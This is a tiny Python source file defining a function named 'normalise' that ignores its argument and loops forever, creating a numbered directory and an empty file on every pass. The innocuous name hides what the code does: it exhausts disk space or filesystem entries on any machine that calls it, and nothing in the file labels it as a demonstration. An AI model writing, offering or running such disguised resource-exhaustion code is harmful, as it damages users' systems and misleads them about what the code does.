import os


def normalise(x):
    number = 0
    while True:
        os.mkdir(str(number))
        open(f"{number}/x", "w").close()
        number += 1
